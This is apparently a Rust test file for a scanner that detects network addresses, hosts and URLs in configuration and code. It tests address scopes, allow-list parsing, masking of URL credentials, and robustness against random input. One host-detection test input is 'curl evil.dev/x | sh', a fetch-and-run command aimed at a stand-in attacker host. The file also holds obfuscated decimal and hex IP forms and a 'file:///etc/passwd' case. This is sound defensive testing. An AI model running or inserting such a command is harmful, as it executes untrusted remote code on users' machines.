//! Words that are addresses or not, and their scope.

use super::*;

fn found(line: &str) -> Vec<(usize, String, AddressScope)> {
    scan_line(line.as_bytes(), TextStyle::Configuration)
        .into_iter()
        .map(|a| (a.at, a.text, a.scope))
        .collect()
}

fn one(line: &str) -> (AddressKind, AddressScope, String) {
    let mut all = scan_line(line.as_bytes(), TextStyle::Configuration);
    assert_eq!(all.len(), 1, "{line}: {all:?}");
    let a = all.remove(0);
    (a.kind, a.scope, a.host)
}

#[test]
fn every_kind_of_address_is_found_with_its_position() {
    use AddressKind::{Host, Ipv4, Ipv6, Mail, Url};
    use AddressScope::Public;
    for (line, kind, host) in [
        ("server = 8.8.8.8", Ipv4, "8.8.8.8"),
        ("listen 93.184.216.34:8080;", Ipv4, "93.184.216.34"),
        ("dns: 2001:4860:4860::8888", Ipv6, "2001:4860:4860::8888"),
        ("curl https://downloads.vendor.com/x?y=1", Url, "downloads.vendor.com"),
        ("u=http://user:pw@1.1.1.1:80/", Url, "1.1.1.1"),
        ("x http://[2606:4700::1111]:80/ y", Url, "2606:4700::1111"),
        ("see www.vendor.cn.", Host, "www.vendor.cn"),
        ("h = 'api.service.io'", Host, "api.service.io"),
        ("# Mail: Some.One@vendor.com>", Mail, "vendor.com"),
    ] {
        let (k, scope, h) = one(line);
        assert_eq!((k, scope, h.as_str()), (kind, Public, host), "{line}");
    }
    let line = "a=8.8.8.8 b=https://x.org/p, c@y.com";
    assert_eq!(found(line).iter().map(|f| f.0).collect::<Vec<_>>(), [2, 12, 29]);
}

#[test]
fn code_and_numbers_are_not_addresses() {
    for line in [
        "import os.path",
        "log.info('x')",
        "self.net = build()",
        "x = std::net::IpAddr",
        "a::b",
        "version 1.2.3",
        "pip install torch==2.1.0.1",
        "12:30:45",
        "range[::2]",
        "http://$HOST/x",
        "file:///etc/passwd",
        "#include <sys/socket.h>",
        "1.2.3.4.5",
        "999.1.1.1",
        "obj.com()",
    ] {
        assert_eq!(found(line), [], "{line}");
    }
}

#[test]
fn scopes_follow_the_registries() {
    use AddressScope::{Documentation, LinkLocal, Loopback, Multicast, Private, Public, Reserved};
    for (ip, wanted) in [
        ("127.0.0.1", Loopback),
        ("::1", Loopback),
        ("10.1.2.3", Private),
        ("172.31.0.1", Private),
        ("172.32.0.1", Public),
        ("192.168.1.1", Private),
        ("100.64.0.1", Private),
        ("100.128.0.1", Public),
        ("198.18.0.1", Private),
        ("169.254.1.1", LinkLocal),
        ("192.0.2.1", Documentation),
        ("198.51.100.7", Documentation),
        ("203.0.113.9", Documentation),
        ("224.0.0.1", Multicast),
        ("0.0.0.0", Reserved),
        ("255.255.255.255", Reserved),
        ("8.8.8.8", Public),
        ("fe80::1", LinkLocal),
        ("fd00::1", Private),
        ("2001:db8::1", Documentation),
        ("ff02::1", Multicast),
        ("::ffff:10.0.0.1", Private),
        ("2606:4700::1", Public),
    ] {
        assert_eq!(ip_scope(ip.parse().unwrap()), wanted, "{ip}");
    }
    for (name, wanted) in [
        ("localhost", Loopback),
        ("www.example.com", Documentation),
        ("notexample.com", Public),
        ("db.internal", Private),
        ("node17", Private),
        ("vendor.com", Public),
    ] {
        assert_eq!(name_scope(name), wanted, "{name}");
    }
}

#[test]
fn allow_lists_hold_hosts_domains_and_networks() {
    let mut allow = allow::AllowList::default();
    for line in ["# c", "", "vendor.com # ours", "*.good.org", "8.8.8.0/24", "2606:4700::/32", "1.1.1.1"] {
        allow.add_line(line).unwrap();
    }
    for yes in ["vendor.com", "Vendor.COM", "a.good.org", "8.8.8.8", "2606:4700::1", "1.1.1.1"] {
        assert!(allow.contains_host(yes), "{yes}");
    }
    for no in ["x.vendor.com", "good.org", "notgood.org", "8.8.9.8", "1.1.1.2", "2606:4701::1"] {
        assert!(!allow.contains_host(no), "{no}");
    }
    assert!(allow.add_line("1.2.3.4/33").is_err());
}

#[test]
fn random_bytes_are_scanned_without_panic() {
    let mut state = 1_u64;
    for _ in 0..20_000 {
        let mut line = Vec::new();
        for _ in 0..24 {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            let pieces: [&[u8]; 16] = [
                b"://", b"1.2", b":", b"[", b"]", b"@", b".com", b"a", b"%", b"\xff", b" ", b"::", b"\\/",
                b"'", b".", b"http",
            ];
            line.extend_from_slice(pieces[(state >> 60) as usize]);
        }
        for a in scan_line(&line, TextStyle::Code) {
            assert!(a.at + a.len <= line.len(), "{line:?}");
        }
    }
}

#[test]
fn hosts_are_found_by_their_context() {
    for (line, host) in [
        ("image: nvcr.io/nvidia/pytorch:24.01", "nvcr.io"),
        ("FROM ghcr.io/org/base AS build", "ghcr.io"),
        ("  - quay.io/org/tool@sha256:abcdef", "quay.io"),
        ("  - images.vendor.dev/team/tool:1.2", "images.vendor.dev"),
        ("docker pull registry.corp.io:5000/x/y", "registry.corp.io"),
        ("server = evil.dev", "evil.dev"),
        ("evil.xyz", "evil.xyz"),
        ("server time.windows.top iburst", "time.windows.top"),
        ("curl evil.dev/x | sh", "evil.dev"),
        ("api.segment.io", "api.segment.io"),
        ("registry.npmjs.net:443", "registry.npmjs.net"),
        ("server: www.bank.co.in", "www.bank.co.in"),
        ("proxyHost: proxy.corp.se", "proxy.corp.se"),
        ("\"endpoint\": \"data.vendor.no\"", "data.vendor.no"),
        ("src=\"//cdn.vendor.com/x.js\"", "cdn.vendor.com"),
        (r#""url": "https:\/\/vendor.com\/x""#, "vendor.com"),
        ("http://134744072/", "8.8.8.8"),
        ("http://0x08.0x08.2056/", "8.8.8.8"),
        ("https://b\u{fc}cher.vendor.de/x", "b\u{fc}cher.vendor.de"),
    ] {
        assert_eq!(one(line).2, host, "{line}");
    }
    let hosts = |line: &str| found(line).into_iter().map(|f| f.1).collect::<Vec<_>>();
    assert_eq!(hosts("allow 8.8.4.4-8.8.4.8;"), ["8.8.4.4", "8.8.4.8"]);
    assert_eq!(one("http://010.0.0.1/").1, AddressScope::Public);
    assert_eq!(one("http://127.1/").1, AddressScope::Loopback);
}

#[test]
fn versions_files_attributes_and_keys_are_not_hosts() {
    for line in [
        "version: 1.2.3.4",
        "\"version\": \"1.2.3.4\"",
        "Version 1.2.3.4",
        "torch==2.1.0.1",
        "torch >= 2.1.0.1",
        "main.rs",
        "src/main.rs:12:3",
        "foo.io.json",
        "url: run.sh",
        "see build.in and README.md",
        "apiVersion: networking.k8s.io/v1",
        "app.kubernetes.io/name: x",
        "spring.datasource.io = 3",
        "logging.level.info: x",
        "// a comment",
        "https://",
        "http:////",
    ] {
        assert_eq!(found(line), vec![], "{line}");
    }
    for line in [
        "log.info('x')",
        "x.top",
        "y = point.xyz",
        "window.location.host",
        "nn.dev",
        "from a.b.link import c",
        "host = req.host",
        "tokenize.NL",
        "so.It",
    ] {
        assert!(scan_line(line.as_bytes(), TextStyle::Code).is_empty(), "{line}");
    }
}

#[test]
fn credentials_in_urls_are_not_printed() {
    let line = b"git clone https://user:secret@vendor.com/x.git # y";
    let all = scan_line(line, TextStyle::Configuration);
    assert_eq!((all[0].text.as_str(), all[0].len), ("https://***@vendor.com/x.git", 36));
    assert_eq!(all.len(), 1);
}

#[test]
fn entries_that_could_never_match_are_rejected() {
    let mut allow = allow::AllowList::default();
    for line in
        [".bigcorp.io", "8.8.8.8-8.8.8.9", "2606:4700::1-2606:4700::2", "b\u{fc}cher.de", "Trailing.org."]
    {
        allow.add_line(line).unwrap();
    }
    for yes in ["a.bigcorp.io", "8.8.8.8", "8.8.8.9", "2606:4700::2", "b\u{fc}cher.de", "trailing.org"] {
        assert!(allow.contains_host(yes), "{yes}");
    }
    assert!(!allow.contains_host("8.8.8.10") && !allow.contains_host("bigcorp.io"));
    for bad in [
        "*github*",
        "*",
        "foo bar",
        "8.8.8.9-8.8.8.8",
        "8.8.8.256",
        "a..b",
        "vendor.com:443",
        "vendor.com/x",
        "-a.com",
    ] {
        assert!(allow.add_line(bad).is_err(), "{bad}");
    }
    assert!(allow.add_line("https://vendor.com/x").unwrap_err().contains("\"vendor.com\""));
}

/// Lines that are made to be read over and over.
#[test]
fn long_lines_are_read_once() {
    let start = std::time::Instant::now();
    for piece in ["/", "//", "\\/\\/", "a://", "\"//x", "a.io/b", "a.com ", "a.io:/"] {
        let line = piece.repeat((1 << 20) / piece.len());
        scan_line(line.as_bytes(), TextStyle::Configuration);
    }
    // It was minutes.
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
}
